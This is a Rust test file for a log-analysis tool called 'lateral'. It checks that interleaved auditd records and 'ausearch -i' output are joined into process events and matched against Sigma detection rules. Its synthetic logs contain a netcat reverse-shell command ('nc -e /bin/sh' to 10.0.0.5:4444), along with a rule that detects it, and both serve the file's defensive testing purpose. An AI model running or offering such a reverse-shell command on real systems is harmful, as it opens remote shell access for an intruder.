//! auditd events whose records interleave, and `ausearch -i` output,
//! through the real binary on bytes the tests write: an `EXECVE` is a
//! process creation with its own event's `SYSCALL` and `CWD` fields even
//! when other events' records come in between, an event cut off by too
//! many interleaved ones is counted, and the interpreted text of
//! `ausearch -i` (local times, names, `----`) reads like the raw log.

mod common;

use lateral::sigma::linux::{self, MAX_OPEN};
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

/// Runs the binary (in the test's folder), insisting on a clean exit: its
/// standard output and error.
fn run(dir: &Path, args: &[&str]) -> (String, String) {
    let o = common::run_ok(env!("CARGO_BIN_EXE_lateral"), dir, args);
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// Writes `log` as `dir/name` and the rules into `dir/rules`: the rules'
/// folder and the log's path.
fn setup(dir: &Path, name: &str, log: &str, rules: &[(&str, String)]) -> (PathBuf, PathBuf) {
    let input = dir.join(name);
    std::fs::write(&input, log).expect("write");
    let folder = dir.join("rules");
    std::fs::create_dir(&folder).expect("mkdir");
    for (file, text) in rules {
        std::fs::write(folder.join(file), text).expect("write");
    }
    (folder, input)
}

/// The Sigma alerts of `lateral analyze --sigma RULES INPUT`: (name,
/// @timestamp, message) of each, and standard error.
fn sigma(rules: &Path, input: &Path, extra: &[&str]) -> (Vec<(String, String, String)>, String) {
    let mut args = vec!["analyze", "--learn", "0%", "--json", "-", "--stats"];
    args.extend_from_slice(extra);
    let (r, i) = (rules.display().to_string(), input.display().to_string());
    args.extend(["--sigma", &r, &i]);
    let (stdout, err) = run(input.parent().unwrap_or(Path::new(".")), &args);
    let mut out = Vec::new();
    for line in stdout.lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("JSON line");
        if v["rule"]["ruleset"] != "sigma" {
            continue;
        }
        let s = |p: &str| {
            v.pointer(p)
                .and_then(|x| x.as_str())
                .unwrap_or("")
                .to_string()
        };
        out.push((s("/rule/name"), s("/@timestamp"), s("/message")));
    }
    out.sort();
    (out, err)
}

/// A process-creation rule that needs every joined field of one event.
fn rule(title: &str, sel: &str) -> String {
    format!(
        "title: {title}\nid: 00000000-0000-4000-8000-{:012}\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n{sel}  condition: selection\nlevel: high\n",
        title.len()
    )
}

fn syscall(serial: u32, pid: u32, ppid: u32, uid: u32, exe: &str) -> String {
    format!(
        "type=SYSCALL msg=audit(1765101600.{:03}:{serial}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid={ppid} pid={pid} auid=1000 uid={uid} gid=0 euid={uid} tty=pts0 ses=3 comm=\"x\" exe=\"{exe}\" key=\"exec\"\n",
        serial % 1000
    )
}

fn execve(serial: u32, args: &[&str]) -> String {
    let mut s = format!(
        "type=EXECVE msg=audit(1765101600.{:03}:{serial}): argc={}",
        serial % 1000,
        args.len()
    );
    for (i, a) in args.iter().enumerate() {
        let _ = write!(s, " a{i}=\"{a}\"");
    }
    s + "\n"
}

fn cwd(serial: u32, dir: &str) -> String {
    format!(
        "type=CWD msg=audit(1765101600.{:03}:{serial}): cwd=\"{dir}\"\n",
        serial % 1000
    )
}

fn eoe(serial: u32) -> String {
    format!(
        "type=EOE msg=audit(1765101600.{:03}:{serial}): \n",
        serial % 1000
    )
}

/// Two exec events whose records interleave (and a login record of a
/// third event between them): each `EXECVE` gets its own event's image,
/// user, process ids and directory, never the other's.
#[test]
fn interleaved_records_join_by_serial() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = [
        syscall(700, 4001, 3000, 0, "/usr/bin/nc"),
        syscall(701, 4002, 3000, 1000, "/usr/bin/ls"),
        "type=USER_LOGIN msg=audit(1765101600.702:702): pid=1 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=success'\n".to_string(),
        execve(701, &["ls", "-la"]),
        execve(700, &["nc", "-e", "/bin/sh", "10.0.0.5", "4444"]),
        cwd(701, "/home/alice"),
        cwd(700, "/tmp"),
        eoe(701),
        eoe(700),
    ]
    .concat();
    let (rules, input) = setup(
        dir.path(),
        "audit.log",
        &log,
        &[
            (
                "nc.yml",
                rule(
                    "Reverse shell by nc from tmp",
                    "    Image: /usr/bin/nc\n    CommandLine|contains: '-e /bin/sh'\n    CurrentDirectory: /tmp\n    User: '0'\n    ProcessId: '4001'\n    ParentProcessId: '3000'\n",
                ),
            ),
            // Fields of the two events crossed: must never match.
            (
                "crossed.yml",
                rule(
                    "Crossed",
                    "    Image: /usr/bin/ls\n    CurrentDirectory: /tmp\n",
                ),
            ),
            (
                "crossed2.yml",
                rule(
                    "Crossed again",
                    "    Image: /usr/bin/nc\n    CommandLine|startswith: ls\n",
                ),
            ),
        ],
    );
    let (alerts, err) = sigma(&rules, &input, &[]);
    let names: Vec<&str> = alerts.iter().map(|a| a.0.as_str()).collect();
    assert_eq!(names, ["Reverse shell by nc from tmp"], "{err}");
    assert!(
        err.contains("sigma: 9 record(s) evaluated, 1 hit(s)"),
        "{err}"
    );
    assert!(!err.contains("before their end"), "{err}");

    // The same records in auditd's own order give the same alerts.
    let plain = [
        syscall(700, 4001, 3000, 0, "/usr/bin/nc"),
        execve(700, &["nc", "-e", "/bin/sh", "10.0.0.5", "4444"]),
        cwd(700, "/tmp"),
        eoe(700),
        syscall(701, 4002, 3000, 1000, "/usr/bin/ls"),
        execve(701, &["ls", "-la"]),
        cwd(701, "/home/alice"),
        eoe(701),
    ]
    .concat();
    let input2 = dir.path().join("plain.log");
    std::fs::write(&input2, plain).expect("write");
    let (again, err) = sigma(&rules, &input2, &[]);
    assert_eq!(again, alerts, "{err}");
}

/// More events open at once than the join holds: the oldest are let go
/// (counted on the `--stats` line) and their `EXECVE` has no image; the
/// others are joined.
#[test]
fn too_many_interleaved_events_are_counted() {
    let n = MAX_OPEN as u32 + 2;
    let mut log = String::new();
    for k in 1..=n {
        log += &syscall(k, 5000 + k, 1, 0, &format!("/usr/bin/tool{k}"));
    }
    for k in (3..=n).chain(1..=2) {
        log += &execve(k, &[&format!("tool{k}"), "--run"]);
        log += &eoe(k);
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let (rules, input) = setup(
        dir.path(),
        "audit.log",
        &log,
        &[
            (
                "image.yml",
                rule("Tool image", "    Image|startswith: /usr/bin/tool\n"),
            ),
            (
                "args.yml",
                rule("Tool arguments", "    CommandLine|endswith: ' --run'\n"),
            ),
        ],
    );
    let (_, err) = sigma(&rules, &input, &[]);
    // Every EXECVE is a process creation; all but the two let go have
    // their image.
    let records = 3 * n;
    let hits = n + (n - 2);
    assert!(
        err.contains(&format!(
            "sigma: {records} record(s) evaluated, {hits} hit(s)"
        )),
        "{err}"
    );
    assert!(
        err.contains("2 audit events joined before their end"),
        "{err}"
    );

    // The join itself, through the library: the same counts.
    let mut join = linux::AuditJoin::new(0);
    let mut out = Vec::new();
    for (i, l) in log.lines().enumerate() {
        assert!(join.push(i as u64 + 1, l.as_bytes(), &mut out), "{l}");
    }
    join.finish(&mut out);
    assert_eq!(join.evicted, 2);
    let with_image = out
        .iter()
        .filter(|(_, r)| r.fields.get("Image").is_some())
        .count();
    assert_eq!(with_image, n as usize - 2);
}

/// `ausearch -i` output: `----` between events, records in its order
/// (`SYSCALL` last), local times, names for ids and calls, decoded values
/// with spaces. Read like the raw log, times placed by `--timezone`.
#[test]
fn ausearch_interpreted_output_reads_like_the_raw_log() {
    let text = "\
----
type=PROCTITLE msg=audit(12/07/2026 10:11:12.345:678) : proctitle=nc -e /bin/sh 10.0.0.5 4444 
type=PATH msg=audit(12/07/2026 10:11:12.345:678) : item=0 name=/usr/bin/nc inode=1234 dev=08:01 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL 
type=CWD msg=audit(12/07/2026 10:11:12.345:678) : cwd=/tmp 
type=EXECVE msg=audit(12/07/2026 10:11:12.345:678) : argc=5 a0=nc a1=-e a2=/bin/sh a3=10.0.0.5 a4=4444 
type=SYSCALL msg=audit(12/07/2026 10:11:12.345:678) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55d0 a1=0x55d1 a2=0x55d2 a3=0x0 items=2 ppid=3000 pid=4001 auid=alice uid=root gid=root euid=root suid=root fsuid=root egid=root sgid=root fsgid=root tty=pts0 ses=3 comm=nc exe=/usr/bin/nc key=(null) 
----
type=EXECVE msg=audit(12/07/2026 10:11:13.000:679) : argc=2 a0=cafe a1=echo hi there 
type=SYSCALL msg=audit(12/07/2026 10:11:13.000:679) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x1 a1=0x2 a2=0x3 a3=0x0 items=1 ppid=4001 pid=4002 auid=alice uid=alice gid=alice euid=alice tty=pts0 ses=3 comm=cafe exe=/opt/cafe key=(null) 
----
type=USER_LOGIN msg=audit(12/07/2026 10:11:14.000:680) : pid=1 uid=root auid=alice ses=3 msg='op=login id=alice exe=/usr/sbin/sshd hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=success' 
";
    let dir = tempfile::tempdir().expect("tempdir");
    let (rules, input) = setup(
        dir.path(),
        "ausearch.txt",
        text,
        &[
            (
                "nc.yml",
                rule(
                    "Reverse shell by nc from tmp",
                    "    Image: /usr/bin/nc\n    CommandLine: 'nc -e /bin/sh 10.0.0.5 4444'\n    CurrentDirectory: /tmp\n    User: root\n    ParentImage: null\n",
                ),
            ),
            // Decoded already: `cafe` is not hex to decode again, and an
            // argument's words stay together.
            (
                "cafe.yml",
                rule(
                    "Cafe child of nc",
                    "    Image: /opt/cafe\n    CommandLine: 'cafe echo hi there'\n    ParentImage: /usr/bin/nc\n    User: alice\n",
                ),
            ),
            (
                "syscall.yml",
                "title: Execve by name\nid: 00000000-0000-4000-8000-000000000099\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  selection:\n    type: SYSCALL\n    SYSCALL: execve\n    exe: /usr/bin/nc\n  condition: selection\nlevel: medium\n".to_string(),
            ),
        ],
    );
    let (alerts, err) = sigma(&rules, &input, &[]);
    let got: Vec<(&str, &str)> = alerts
        .iter()
        .map(|a| (a.0.as_str(), a.1.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            ("Cafe child of nc", "2026-12-07T10:11:13.000000Z"),
            ("Execve by name", "2026-12-07T10:11:12.345000Z"),
            (
                "Reverse shell by nc from tmp",
                "2026-12-07T10:11:12.345000Z"
            ),
        ],
        "{err}"
    );
    // Written at UTC+02:00: the same instants two hours earlier.
    let (alerts, err) = sigma(&rules, &input, &["--timezone", "+02:00"]);
    let times: Vec<&str> = alerts.iter().map(|a| a.1.as_str()).collect();
    assert_eq!(
        times,
        [
            "2026-12-07T08:11:13.000000Z",
            "2026-12-07T08:11:12.345000Z",
            "2026-12-07T08:11:12.345000Z"
        ],
        "{err}"
    );

    // The main pipeline reads it too: the exec and the login, by name.
    let (stdout, _) = run(
        dir.path(),
        &[
            "events",
            "--timezone",
            "+02:00",
            &input.display().to_string(),
        ],
    );
    let docs: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    let exec = docs
        .iter()
        .find(|d| d["event"]["action"] == "process-created" && d["labels"]["pid"] == "4001")
        .expect("the exec of nc");
    assert_eq!(exec["process"]["executable"], "/usr/bin/nc");
    assert_eq!(exec["user"]["name"], "alice");
    assert_eq!(exec["@timestamp"], "2026-12-07T08:11:12.345000Z");
    let args = docs
        .iter()
        .find(|d| d["event"]["action"] == "process-created" && d["labels"]["audit_serial"] == "679")
        .expect("the exec of cafe");
    // Its EXECVE came before its SYSCALL: joined all the same.
    assert_eq!(args["process"]["command_line"], "cafe echo hi there");
    assert_eq!(args["process"]["executable"], "/opt/cafe");
    assert_eq!(args["labels"]["ppid"], "4001");
    let login = docs
        .iter()
        .find(|d| d["event"]["action"] == "logged-in")
        .expect("the login");
    assert_eq!(login["user"]["name"], "alice");
    assert_eq!(login["source"]["ip"], "10.0.0.5");
}

/// The date orders `ausearch -i` writes in common locales, placed by the
/// offset; impossible dates and times are not records.
#[test]
fn ausearch_dates_in_each_locale_order() {
    use lateral::model::event::Timestamp;
    use lateral::source::auditd::{interpreted_time, parse_header_at};
    let utc = interpreted_time("12/07/2026 10:11:12.345", 0).expect("US order");
    for (text, offset) in [
        ("12/07/26 10:11:12.345", 0),
        ("2026-12-07 10:11:12.345", 0),
        ("07.12.2026 10:11:12.345", 0),
        ("12/07/2026 11:11:12.345", 3600),
        ("12/07/2026 05:11:12.345", -5 * 3600),
    ] {
        assert_eq!(interpreted_time(text, offset), Some(utc), "{text}");
    }
    // Day first when the first number cannot be a month.
    assert_eq!(
        interpreted_time("25/12/2026 00:00:00.000", 0),
        interpreted_time("12/25/2026 00:00:00.000", 0)
    );
    assert_eq!(
        utc.secs() % 86_400,
        10 * 3600 + 11 * 60 + 12,
        "{utc:?} is 10:11:12 UTC"
    );
    for bad in [
        "13/13/2026 10:11:12.345",
        "12/07/2026 24:00:00.000",
        "12/07/2026 10:61:00.000",
        "12/07/2026",
        "2026-00-07 10:11:12.345",
        "12/07/2026 10:11:12.3456789012",
        "x/y/z 1:2:3",
    ] {
        assert_eq!(interpreted_time(bad, 0), None, "{bad}");
    }
    let h = parse_header_at(
        "node=web1 type=EXECVE msg=audit(12/07/2026 10:11:12.345:678) : argc=1 a0=ls",
        0,
    )
    .expect("interpreted header");
    assert_eq!(
        (h.node, h.kind, h.serial, h.body, h.interpreted, h.ts),
        (Some("web1"), "EXECVE", 678, "argc=1 a0=ls", true, utc)
    );
    // The raw log's epoch time of the same instant, UTC whatever the offset.
    let raw = parse_header_at("type=EOE msg=audit(1796638272.345:678): ", 3600).expect("raw");
    assert!(!raw.interpreted);
    assert_eq!(raw.ts, Timestamp::from_parts(1_796_638_272, 345_000_000));
    assert_eq!(raw.ts, utc);
}
